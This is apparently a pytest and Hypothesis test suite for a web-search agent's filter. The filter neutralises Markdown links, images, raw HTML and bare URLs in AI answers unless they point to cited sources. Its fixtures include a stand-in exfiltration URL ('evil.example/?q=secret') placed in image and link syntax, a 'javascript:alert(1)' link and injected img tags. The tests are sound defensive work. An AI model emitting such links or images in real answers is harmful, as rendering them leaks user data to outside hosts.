"""Whoever renders an answer's Markdown finds no link but to its sources, and no image at all."""

import re
from collections.abc import Iterator, Sequence

import pytest
from fuzzing import bounded
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from websearch_agent.agent.link_filter import LinkFilter
from websearch_agent.citations.markers import CitationStream

SOURCE = "https://a.example/page"
BARE_ADDRESS = re.compile(r"(?<![a-z0-9])https?://\w+|(?<!\w)www\.\w+")
ELSEWHERE = "http://evil.example/?q=secret"


def filtered(*pieces: str) -> tuple[str, int]:
    links = LinkFilter([SOURCE])
    text = "".join(links.feed(piece) for piece in pieces) + links.finish()
    return text, links.removed


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"See [the page]({SOURCE}).", f"See [the page]({SOURCE})."),
        (f"See [here]({ELSEWHERE}).", f"See here (`{ELSEWHERE}`)."),
        (f'[here]({ELSEWHERE} "a title") (b)', f"here (`{ELSEWHERE}`) (b)"),
        (f"![chart]({ELSEWHERE})", f"chart (`{ELSEWHERE}`)"),
        (f"![]({ELSEWHERE})", f"(`{ELSEWHERE}`)"),
        (f"![chart]({SOURCE})", f"chart (`{SOURCE}`)"),
        (f"[![chart]({ELSEWHERE})]({SOURCE})", f"[chart (`{ELSEWHERE}`)]({SOURCE})"),
        (f"It is so [1]({ELSEWHERE}).", "It is so [1]."),
        ("[go](javascript:alert(1))", "go (`javascript:alert(1)`)"),
        (f"<{ELSEWHERE}>", f"`{ELSEWHERE}`"),
        (f"<{SOURCE}>", f"<{SOURCE}>"),
        (f"<img src='{ELSEWHERE}'>", f"\\<img src='`{ELSEWHERE}`'>"),
        (f"[1]: {ELSEWHERE}\n", f"[1] : `{ELSEWHERE}`\n"),
        (f"[1]: {SOURCE}\n", f"[1] : {SOURCE}\n"),
        ("As in [1]: the tower", "As in [1]: the tower"),
        (f"See {ELSEWHERE}, please.", f"See `{ELSEWHERE}`, please."),
        (f"See {SOURCE}.", f"See {SOURCE}."),
        ("see www.evil.example", "see `www.evil.example`"),
        ("mail <2x@e.example> or <*a@e.example>", "mail \\<2x@e.example> or \\<*a@e.example>"),
        ("p <0.05 and a <= b", "p <0.05 and a <= b"),
        ("a List<String>", "a List\\<String>"),
        ("an odd ` tick", "an odd \\` tick"),
        (f"> [foo]:\n> {ELSEWHERE}\n", f"> [foo] :\n> `{ELSEWHERE}`\n"),
        (f"~~~\r\na\r\n~~~\r\n[x]({ELSEWHERE})", f"~~~\na\n~~~\nx (`{ELSEWHERE}`)"),
        (f"> ~~~\n> a\n>~~~\n> [x]({ELSEWHERE})", f"> ~~~\n> a\n>~~~\n> x (`{ELSEWHERE}`)"),
        (
            f"~~~a | b\n--|--\n\npara\n~~~\n[x]({ELSEWHERE})",
            f"~~~a | b\n--|--\n\npara\n~~~\nx (`{ELSEWHERE}`)",
        ),
        (f"> - ~~~\n> - [x]({ELSEWHERE})", f"> - ~~~\n> - x (`{ELSEWHERE}`)"),
        (f"a\n2. ~~~\n   [x]({ELSEWHERE})", f"a\n2. ~~~\n   x (`{ELSEWHERE}`)"),
        (f"[a\nb]({ELSEWHERE})", f"[a\nb] (`{ELSEWHERE}`)"),
    ],
)
def test_only_links_to_sources_stay(text: str, shown: str) -> None:
    assert filtered(text)[0] == shown
    assert filtered(*text)[0] == shown


@pytest.mark.parametrize(
    "text",
    [
        "Plain text with [1], [2][3], a[0](x) and 1 < 2.",
        f"`![a]({ELSEWHERE})` is an image.",
        f"```md\n![a]({ELSEWHERE})\n<img src=x>\n```\nDone.",
        f"1. Do:\n   ```html\n   <img src='{ELSEWHERE}'>\n   ```\n2. Done.",
        f"> ~~~\n> [a]({ELSEWHERE})\n> ~~~\n",
        "the interval [0, 1) is half open",
        "![",
    ],
)
def test_other_text_and_code_stay_as_they_are(text: str) -> None:
    assert filtered(text) == (text, 0)
    assert filtered(*text) == (text, 0)


def test_what_became_text_is_counted() -> None:
    assert filtered(f"[a]({ELSEWHERE}) ![b]({ELSEWHERE}) [c]({SOURCE})")[1] == 2


def test_little_is_held_back() -> None:
    links = LinkFilter([])
    assert links.feed("The tower [1] is") == "The tower [1] is"
    assert links.feed(" [see") == " "
    assert links.feed(" what comes") == ""
    assert links.feed("\n") == "[see what comes\n"


def answered(*pieces: str) -> str:
    """As it goes out: the citation stream takes out markers without a source behind the filter."""
    links, citations = LinkFilter([SOURCE]), CitationStream({1})
    text = "".join(citations.feed(links.feed(piece)) for piece in pieces)
    return text + citations.feed(links.finish()) + citations.finish()


@pytest.mark.parametrize("marker", ["[99]", "【99】", "[citation:99]"])
@pytest.mark.parametrize(
    "text",
    ["<im{}g src=//e/x>", "<{}http://e/x>", "[a]{}(http://e/x)", "ht{}tps://e/x", "{}[a]: http://e/x",
     "[fo{}o]:{} http://e/x\n\n![foo]", "{}~~~\n~~~\n[a](http://e/x)", "!{}[a](http://e/x)"],
)  # fmt: skip
def test_a_marker_that_is_dropped_joins_nothing(text: str, marker: str) -> None:
    text = text.format(*[marker] * text.count("{}"))
    assert foreign(answered(text)) == []
    assert foreign(answered(*text)) == []


def test_a_line_of_blanks_and_dashes_takes_no_time() -> None:
    for line in ("-  " * 5000 + "x\n", "1.   " * 5000 + "x\n", "> " * 5000 + "x\n"):
        assert filtered(line)[0] == line


# What Markdown is made of, in any order.
BITS = st.sampled_from(
    [
        *("[", "]", "(", ")", "!", "`", "``", "```\n", "~~~\n", "\n", "\n\n", " ", "\t", "    "),
        *(
            "<",
            ">",
            "> ",
            "- ",
            "1. ",
            "2. ",
            "\\",
            ":",
            '"',
            "|",
            "*",
            "&",
            "a",
            "[1]",
            "![",
            "](",
        ),
        *(
            "[99]",
            "【99】",
            "\r",
            "\r\n",
            "x | y\n--|--\n",
            "//e/x",
            "www.e.com",
            "ht",
            "tps://e/x",
        ),
        *(SOURCE, "http://e/x", "[a](http://e/x)", "![a](http://e/x)", "[a]: http://e/x\n", "[a]"),
        *("<http://e/x>", "<a href='http://e/'>", "<img src=x>", "<div>", "<!-- ", "x@e.example"),
    ]
)
TEXTS = st.lists(BITS, max_size=16)


@given(TEXTS)
@bounded(400)
def test_no_markdown_parser_finds_a_link_elsewhere(pieces: Sequence[str]) -> None:
    assert foreign(filtered("".join(pieces))[0]) == []
    assert foreign(answered("".join(pieces))) == []


@given(TEXTS)
@bounded(200)
def test_cutting_into_pieces_changes_nothing(pieces: Sequence[str]) -> None:
    whole = filtered("".join(pieces))
    assert filtered(*pieces) == whole
    assert filtered(*"".join(pieces)) == whole


def foreign(text: str) -> list[str]:
    """Links, images, tags and bare addresses that two parsers find in it, sources aside."""
    found = []
    for rules in ((), ("table", "strikethrough")):
        parser = MarkdownIt("commonmark", {"html": True}).enable(list(rules))
        for token in tokens_of(parser.parse(text)):
            if token.type == "image" or token.type.startswith("html_"):
                found.append(token.content)
            elif token.type == "link_open":
                address = str(token.attrGet("href"))
                # Of an address that became code, a parser makes a path: it leads nowhere.
                is_far = ("//" in address or ":" in address) and not address.startswith("%60")
                found += [address] if is_far and address != SOURCE else []
            elif token.type == "text":
                found += BARE_ADDRESS.findall(token.content.replace(SOURCE, "a"))
    return found


def tokens_of(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from tokens_of(token.children or [])
